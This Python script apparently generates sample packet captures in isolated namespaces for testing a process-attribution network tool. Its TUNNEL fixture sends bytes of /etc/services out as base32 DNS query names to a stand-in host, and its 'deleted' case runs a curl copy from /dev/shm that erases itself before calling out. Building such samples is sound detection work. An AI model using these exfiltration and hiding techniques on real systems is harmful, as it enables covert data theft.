# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes the samples of real traffic anew; see samples/README.md.

  python3 tests/live/make_samples.py build/capture/pktwho build/plugin/pktwho.so

and perhaps the names of some, without .pcapng.  Needs root and the programs
that main() names.  Only what Debian installs and a few scripts take part, so
that no path of the machine that made them is in the samples.  Afterwards their
frames in samples/README.md are others, and some numbers in tests.
"""
import ctypes
import gzip
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
from contextlib import contextmanager
from pathlib import Path

NAMES = sys.argv[3:]
del sys.argv[3:]

import world  # noqa: E402
from world import (Capture, Namespace, need, need_root, run,  # noqa: E402
                   wait_for)
import pcapng  # noqa: E402

ENV = {"PATH": "/usr/bin:/bin:/usr/sbin:/sbin", "LC_ALL": "C.UTF-8"}
NEAR, FAR = "198.51.100.10", "198.51.100.80"

# A web page that needs what another service has in stock.
SHOP = """#!/usr/bin/python3
import http.server, urllib.request
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        stock = urllib.request.urlopen("http://127.0.0.1:8001/apples").read()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"apples: " + stock)
http.server.HTTPServer(("127.0.0.1", 8000), Handler).serve_forever()
"""
STOCK = """#!/usr/bin/python3
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"7")
http.server.HTTPServer(("127.0.0.1", 8001), Handler).serve_forever()
"""
PREFORK = """#!/usr/bin/python3
import os, socket
s = socket.create_server(("127.0.0.1", 8000))
for _ in range(3):
    if not os.fork():
        break
else:
    while True:
        os.wait()
while True:
    c, _ = s.accept()
    c.recv(4096)
    c.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 3\\r\\n\\r\\nhi\\n")
    c.close()
"""
# Keeps nothing of what it is sent.
ARCHIVE = """#!/usr/bin/python3
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_PUT(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(201)
        self.end_headers()
http.server.HTTPServer(("198.51.100.80", 80), Handler).serve_forever()
"""
METRICS = """#!/usr/bin/python3
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(12_500):
    s.sendto(b"", ("198.51.100.80", 9000 + n % 7))
    if n % 100 == 99:
        time.sleep(0.01)
"""
# Sends a file's bytes away in the names it asks for.
TUNNEL = """#!/usr/bin/python3
import base64, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.51.100.80", 53))
text = open("/etc/services", "rb").read(1000)
for at in range(0, len(text), 25):
    label = base64.b32encode(text[at:at + 25]).lower()
    name = b"".join(bytes([len(part)]) + part for part in
                    (label, b"%02d" % (at // 25), b"t", b"example", b"net"))
    s.send(struct.pack("!6H", at, 0x100, 1, 0, 0, 0) + name + b"\\0"
           + struct.pack("!2H", 16, 1))
    s.recv(512)
"""


def background(ns, *argv, cwd, user="root"):
    step_down = ["setpriv", f"--reuid={user}", "--clear-groups"]
    return subprocess.Popen(ns.argv(*(step_down if user != "root" else ()),
                                    *argv), env=ENV, cwd=cwd,
                            stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)


def script(where, name, text):
    path = where / name
    path.write_text(text)
    path.chmod(0o755)
    return f"./{name}"


def listens(ns, address):
    wait_for(lambda: address in ns.run("ss", "-Hlnut").stdout, address)


def keep(name, data):
    (world.SAMPLES / name).write_bytes(data)


@contextmanager
def hosts():
    """Two of them, near and far, with a cable between."""
    near, far = Namespace(), Namespace()
    try:
        world.link(near, far, (f"{NEAR}/24", f"{FAR}/24"))
        yield near, far
    finally:
        near.close()
        far.close()


@contextmanager
def serving(ns, address, *argv, cwd, user="root"):
    process = background(ns, *argv, cwd=cwd, user=user)
    try:
        listens(ns, address)
        yield
    finally:
        process.kill()
        process.wait()


@contextmanager
def host():
    ns = Namespace()
    try:
        yield ns
    finally:
        ns.close()


def save(capture, name):
    status, said = capture.stop(settle=0.3)
    assert status == 0, said
    data = capture.path.read_bytes()
    keep(name, data)
    print(f"{name}: {len(data)} bytes, {said.strip()}")


def loopback_http(where):
    ns = Namespace()
    server = background(ns, "/usr/bin/python3", "-m", "http.server", "8080",
                        "--bind", "127.0.0.1", cwd=where)
    try:
        listens(ns, "127.0.0.1:8080")
        capture = Capture(where / "a.pcapng", "-i", "lo", within=ns, env=ENV)
        ns.run("/usr/bin/curl", "-s", "http://127.0.0.1:8080/", env=ENV)
        ns.run("/usr/bin/curl", "-s", "http://127.0.0.1:8081/", env=ENV)
        save(capture, "loopback-http.pcapng")
    finally:
        server.kill()
        server.wait()
        ns.close()


def dns_then_connect(where):
    near, far = Namespace(), Namespace()
    etc = Path("/etc/netns", near.name)
    etc.mkdir(parents=True)
    (etc / "resolv.conf").write_text("nameserver 198.51.100.53\n")
    world.link(near, far, ("198.51.100.10/24", "198.51.100.53/24"))
    far.ip("addr", "add", "198.51.100.80/24", "dev", "veth0")
    started = [
        background(far, "/usr/sbin/dnsmasq", "--no-daemon", "--no-hosts",
                   "--no-resolv", "--user=root", "--bind-interfaces",
                   "--listen-address=198.51.100.53",
                   "--address=/www.example.com/198.51.100.80", cwd=where),
        background(far, "/usr/bin/python3", "-m", "http.server", "80",
                   "--bind", "198.51.100.80", cwd=where)]
    try:
        listens(far, "198.51.100.53:53")
        listens(far, "198.51.100.80:80")
        capture = Capture(where / "b.pcapng", "-i", "veth0",
                          "-f", "udp or tcp", within=near, env=ENV)
        near.run("/usr/bin/curl", "-4s", "http://www.example.com/", env=ENV)
        save(capture, "dns-then-connect.pcapng")
    finally:
        for process in started:
            process.kill()
            process.wait()
        (etc / "resolv.conf").unlink()
        etc.rmdir()
        near.close()
        far.close()


def tls(where):
    """With the keys inside, as Wireshark keeps them."""
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
        "ec_paramgen_curve:prime256v1", "-nodes", "-days", "3650",
        "-subj", "/CN=shop.example.com", "-keyout", where / "key.pem",
        "-out", where / "cert.pem", check=True)
    (where / "apples").write_text("seven\n")
    keys = where / "keys"
    with host() as ns, serving(
            ns, "127.0.0.1:8443", "openssl", "s_server", "-accept",
            "127.0.0.1:8443", "-key", "key.pem", "-cert", "cert.pem", "-WWW",
            "-quiet", cwd=where, user="root"):
        capture = Capture(where / "tls.pcapng", "-i", "lo", within=ns, env=ENV)
        ns.run("curl", "-sk", "--resolve", "shop.example.com:8443:127.0.0.1",
               "https://shop.example.com:8443/apples",
               env=ENV | {"SSLKEYLOGFILE": str(keys)}, check=True)
        save(capture, "tls.pcapng")
    # As editcap --inject-secrets does it, which loses options of ours.
    secrets = keys.read_bytes()
    block = pcapng.block(0xA, b"KSLT" + len(secrets).to_bytes(4, "little")
                         + pcapng.pad(secrets))
    data = (world.SAMPLES / "tls.pcapng").read_bytes()
    at = next(b.offset for b in pcapng.blocks(data) if b.kind == pcapng.EPB)
    keep("tls.pcapng", data[:at] + block + data[at:])


def two_services(where):
    shop, stock = (script(where, "shop", SHOP), script(where, "stock", STOCK))
    with host() as ns, \
            serving(ns, "127.0.0.1:8000", shop, cwd=where, user="www-data"), \
            serving(ns, "127.0.0.1:8001", stock, cwd=where, user="games"):
        capture = Capture(where / "s.pcapng", "-i", "lo", within=ns, env=ENV)
        for _ in range(2):
            ns.run("curl", "-s", "http://127.0.0.1:8000/", env=ENV, check=True)
        save(capture, "two-services.pcapng")


def prefork(where):
    with host() as ns, serving(ns, "127.0.0.1:8000", script(
            where, "prefork", PREFORK), cwd=where, user="www-data"):
        capture = Capture(where / "p.pcapng", "-i", "lo", within=ns, env=ENV)
        for _ in range(4):
            ns.run("curl", "-s", "http://127.0.0.1:8000/", env=ENV, check=True)
        save(capture, "prefork.pcapng")


def deleted(where):
    """A program that is not on the disk any more when it calls out."""
    path = Path("/dev/shm/updater")
    shutil.copy("/usr/bin/curl", path)
    with hosts() as (near, far), serving(
            far, f"{FAR}:80", "python3", "-m", "http.server", "80", "--bind",
            FAR, cwd=where):
        capture = Capture(where / "d.pcapng", "-i", "veth0", "-f", "tcp",
                          "--hash", within=near, env=ENV)
        process = subprocess.Popen(near.argv(path, "-K", "-"), env=ENV,
                                   stdin=subprocess.PIPE,
                                   stdout=subprocess.DEVNULL)
        exe = Path(f"/proc/{process.pid}/exe")
        wait_for(lambda: os.readlink(exe) == str(path), "program")
        path.unlink()
        # It lives for a second, so that there is time for its hash.
        process.communicate((f'silent\nrate = "60/m"\n'
                             + f'url = "http://{FAR}/"\n' * 2).encode())
        save(capture, "deleted.pcapng")


def container(where):
    """runc in the way that containerd calls it for Kubernetes."""
    number = "5ca1ab1e" * 8
    pod = "0d15ea5e-0000-4000-8000-00000000c0de"
    bundle = Path("/run/containerd/io.containerd.runtime.v2.task/k8s.io",
                  number)
    made = next(p for p in reversed(bundle.parents) if not p.exists()) \
        if not bundle.parent.exists() else bundle
    root = bundle / "rootfs"
    root.mkdir(parents=True)
    try:
        needed = run("ldd", "/usr/bin/busybox").stdout.split()
        for path in ("/usr/bin/busybox", *(p for p in needed if p[0] == "/")):
            to = root / path.lstrip("/")
            to.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, to)
        (root / "index.html").write_text("Hello from the container.\n")
        run("runc", "spec", "--bundle", bundle, check=True)
        with hosts() as (near, far):
            spec = json.loads((bundle / "config.json").read_text())
            spec["process"] |= {"terminal": False, "args": [
                "/usr/bin/busybox", "httpd", "-f", "-p", f"{FAR}:80"]}
            spec["process"]["capabilities"]["bounding"] += \
                ["CAP_NET_BIND_SERVICE"]
            spec["linux"]["cgroupsPath"] = \
                f"/kubepods/besteffort/pod{pod}/{number}"
            for space in spec["linux"]["namespaces"]:
                if space["type"] == "network":
                    space["path"] = f"/run/netns/{far.name}"
            spec["annotations"] = {
                "io.kubernetes.cri.container-name": "shop",
                "io.kubernetes.cri.image-name": "docker.io/library/shop:1",
                "io.kubernetes.cri.sandbox-name": "shop-7d4b9",
                "io.kubernetes.cri.sandbox-namespace": "fruit"}
            (bundle / "config.json").write_text(json.dumps(spec))
            capture = Capture(where / "c.pcapng", "-i", "veth0", "-f", "tcp",
                              within=far, env=ENV)
            subprocess.run(["runc", "run", "-d", "--bundle", bundle, number],
                           check=True, stdin=subprocess.DEVNULL,
                           stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
            try:
                listens(far, f"{FAR}:80")
                near.run("curl", "-s", f"http://{FAR}/", env=ENV, check=True)
                save(capture, "container.pcapng")
            finally:
                run("runc", "delete", "--force", number)
    finally:
        shutil.rmtree(made)
        for group in (f"pod{pod}", "besteffort", "kubepods"):
            for path in Path("/sys/fs/cgroup").rglob(group):
                path.rmdir()


def lossy(where):
    """Each ninth packet of the upload is lost on its way."""
    (where / "photo").write_bytes(bytes(60_000))
    with hosts() as (near, far), serving(far, f"{FAR}:80", script(
            where, "archive", ARCHIVE), cwd=where):
        # One segment for each packet, as on a wire.
        near.ip("link", "set", "veth0", "gso_max_segs", "1")
        far.run("nft", "-f", "-", check=True, input="""
            table inet lossy { chain in {
                type filter hook prerouting priority -400
                tcp dport 80 tcp flags & syn == 0 numgen inc mod 9 == 5 drop
                }
            }
            """)
        capture = Capture(where / "l.pcapng", "-i", "veth0", "-f", "tcp",
                          "-s", "200", within=near, env=ENV)
        near.run("curl", "-sT", "photo", f"http://{FAR}/", env=ENV, cwd=where,
                 check=True)
        save(capture, "lossy.pcapng")


def dns_tunnel(where):
    with hosts() as (near, far), serving(
            far, f"{FAR}:53", "/usr/sbin/dnsmasq", "--no-daemon", "--no-hosts",
            "--no-resolv", "--user=root", "--bind-interfaces",
            f"--listen-address={FAR}", "--local=/example.net/", cwd=where):
        capture = Capture(where / "t.pcapng", "-i", "veth0", "-f", "udp",
                          within=near, env=ENV)
        near.run(script(where, "sync", TUNNEL), env=ENV, cwd=where, check=True)
        save(capture, "dns-tunnel.pcapng")


def many(where):
    """So many frames that the columns are full; gzip makes little of them."""
    with hosts() as (near, _):
        capture = Capture(where / "m.pcapng", "-i", "veth0", "-f", "udp",
                          "-s", "42", "--comments=none", within=near, env=ENV)
        near.run(script(where, "metrics", METRICS), env=ENV, cwd=where,
                 check=True)
        status, said = capture.stop(settle=0.3)
    assert status == 0, said
    data = gzip.compress(capture.path.read_bytes(), 9, mtime=0)
    keep("many.pcapng.gz", data)
    print(f"many: {len(data)} bytes, {said.strip()}")


def comment(text):
    return pcapng.option(1, text.encode())


def imports(where):
    """The packets of a sample, with other tools' words on one end."""
    blocks = pcapng.blocks((world.SAMPLES / "loopback-http.pcapng")
                           .read_bytes())
    packets = [b for b in blocks if b.kind == pcapng.EPB][:8]
    words = {
        "ptcpdump": [comment("PID: 4535\nCmd: /usr/bin/curl\nArgs: curl -s "
                             "http://127.0.0.1:8080/"),
                     comment("ParentPID: 4500\nParentCmd: /usr/bin/bash\n"
                             "ParentArgs: bash")],
        "rustnet": [comment("rustnet process=curl pid=4535 ppid=4500 uid=1000 "
                            "attr=exact-tuple direction=outgoing app=HTTP")],
        "etl2pcapng": [comment("PID=4535 TID=4536")],
    }
    (world.SAMPLES / "imports").mkdir(exist_ok=True)
    for name, options in words.items():
        data = pcapng.shb() + pcapng.idb(name="lo") + b"".join(
            pcapng.epb(b.data, b.ts_ns, *options) for b in packets)
        keep(f"imports/{name}.pcapng", data)
    # Apple's header stands before the frame; 2 is outbound, 1 inbound.
    keep("imports/pktap.pcapng", pcapng.shb() + pcapng.idb(258, "lo0")
         + b"".join(pcapng.epb(struct.pack(
             "<III24sIIIIi20sIHHi20s", 108, 1, 1, b"lo0",
             2 if b.data[36:38] == b"\x1f\x90" else 1, 2, 14, 0, 4535,
             b"curl", 0, 6, 0, -1, b"") + b.data, b.ts_ns) for b in packets))


def leave_machine():
    """Its name, its folders and who starts us are its own business."""
    who = f"/proc/{os.getppid()}"
    if not os.path.ismount(who):
        paths = map(os.path.abspath, sys.argv)
        os.execvp("unshare", [
            "unshare", "--uts", "--mount", "sh", "-c",
            f'mount -t tmpfs none {who} && exec "$@"', "sh",
            "/usr/bin/python3", *paths, *NAMES])
    os.chdir("/")
    # A container's parent is what started it, as with containerd's shim.
    set_child_subreaper = 36
    ctypes.CDLL(None).prctl(set_child_subreaper, 1)


def leave_control_groups():
    """Those of who starts us are its business, too."""
    for line in Path("/proc/mounts").read_text().splitlines():
        _, point, kind = line.split()[:3]
        if kind in ("cgroup", "cgroup2"):
            Path(point, "cgroup.procs").write_text(str(os.getpid()))


def main():
    need_root()
    need("curl", "dnsmasq", "ss", "/usr/bin/python3", "openssl", "busybox",
         "runc", "nft", "setpriv")
    leave_machine()
    os.umask(0o022)
    leave_control_groups()
    makers = {"loopback-http": loopback_http,
              "dns-then-connect": dns_then_connect, "tls": tls,
              "two-services": two_services, "prefork": prefork,
              "deleted": deleted, "container": container, "lossy": lossy,
              "dns-tunnel": dns_tunnel, "many": many, "imports": imports}
    for name in NAMES or makers:
        with tempfile.TemporaryDirectory() as where:
            Path(where).chmod(0o755)
            Path(where, "index.html").write_text("Hello from the sample.\n")
            socket.sethostname(name)
            makers[name](Path(where))


if __name__ == "__main__":
    main()
